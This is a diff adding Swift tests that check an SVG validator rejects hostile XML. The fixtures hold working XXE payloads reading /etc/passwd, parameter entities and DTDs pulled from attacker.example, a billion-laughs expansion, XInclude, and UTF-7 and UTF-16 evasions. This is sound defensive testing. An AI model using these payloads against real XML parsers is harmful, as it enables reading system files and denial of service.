@@ -200,3 +200,53 @@ struct ValidateTests {
         } throws: { "\($0)" == "minBytes: minBytes (2MB) is larger than maxBytes (1MB)" }
     }
 }
+
+/// SVGs that attack XML parsers (XXE, parameter entities, entity expansion, external DTDs, XInclude, hiding
+/// encodings) are rejected as `unsafe_svg` with `profile: "wix"`; a plain SVG and the W3C SVG 1.1 DOCTYPE pass.
+@Suite("validate: hostile SVGs")
+struct HostileSVGTests {
+    static let cases: [(name: String, text: String, fragment: String)] = [
+        ("xxe.svg", #"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>"#, "internal subset"),
+        ("parameter.svg", #"<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><svg xmlns="http://www.w3.org/2000/svg"/>"#, "internal subset"),
+        ("laughs.svg", #"<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>"#, "internal subset"),
+        ("external.svg", #"<!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>"#, "external DTD"),
+        ("public-other.svg", #"<!DOCTYPE svg PUBLIC "-//EVIL//DTD X//EN" "http://attacker.example/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>"#, "external DTD"),
+        ("lowercase.svg", #"<!doctype svg [ <!entity x SYSTEM "file:///etc/hostname"> ]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>"#, "internal subset"),
+        ("entity-outside.svg", #"<svg xmlns="http://www.w3.org/2000/svg"><!ENTITY x "y"></svg>"#, "entity declaration"),
+        ("xinclude.svg", #"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></svg>"#, "XInclude"),
+        ("utf7.svg", #"<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI-/+AD4-"#, "encoding"),
+        ("two-doctypes.svg", #"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><!DOCTYPE svg [<!ENTITY e "x">]><svg xmlns="http://www.w3.org/2000/svg"/>"#, "more than one DOCTYPE"),
+    ]
+
+    func validate(_ name: String, _ bytes: [UInt8], directory: TemporaryDirectory) async throws -> HarnessOutcome {
+        let path = directory.file(name)
+        try Data(bytes).write(to: URL(fileURLWithPath: path))
+        let stage = try ValidateStage(options: .decode(["profile": "wix"], specs: ValidateStage.options), context: StageHarness<ValidateStage>.buildContext())
+        return try await StageHarness(stage).process(file: path)
+    }
+
+    @Test("XXE, parameter entities, billion laughs, external DTDs, XInclude, UTF-7 and a second DOCTYPE are rejected", arguments: cases.map(\.name))
+    func rejected(name: String) async throws {
+        let directory = TemporaryDirectory()
+        let entry = try #require(Self.cases.first { $0.name == name })
+        let outcome = try await validate(name, Array(entry.text.utf8), directory: directory)
+        // UTF-7 hides the markup from libmagic too: it is text/xml with an .svg name, rejected as a mismatch first.
+        let codes: Set<Rejection.Code> = name == "utf7.svg" ? [.unsafeSVG, .extensionMismatch] : [.unsafeSVG]
+        #expect(outcome.rejection.map { codes.contains($0.code) } == true, "\(name): \(String(describing: outcome.rejection))")
+        if outcome.rejection?.code == .unsafeSVG {
+            #expect(outcome.rejection?.reason.contains(entry.fragment) == true, "\(name): \(String(describing: outcome.rejection?.reason))")
+        }
+    }
+
+    @Test("the same attack in UTF-16 is rejected too; a plain SVG and the W3C SVG 1.1 DOCTYPE pass")
+    func encodingsAndTheW3CDoctype() async throws {
+        let directory = TemporaryDirectory()
+        let xxe = Self.cases[0].text
+        let utf16: [UInt8] = [0xFF, 0xFE] + xxe.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
+        #expect(try await validate("utf16.svg", utf16, directory: directory).rejection?.code == .unsafeSVG)
+        let w3c = #"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>"#
+        let passed = try await validate("w3c.svg", Array(w3c.utf8), directory: directory)
+        #expect(passed.asset != nil, "\(String(describing: passed.rejection))")
+        #expect(try await validate("minimal.svg", Array(try Data(contentsOf: URL(fileURLWithPath: Corpus.path("images/svg/minimal.svg")))), directory: directory).asset != nil)
+    }
+}
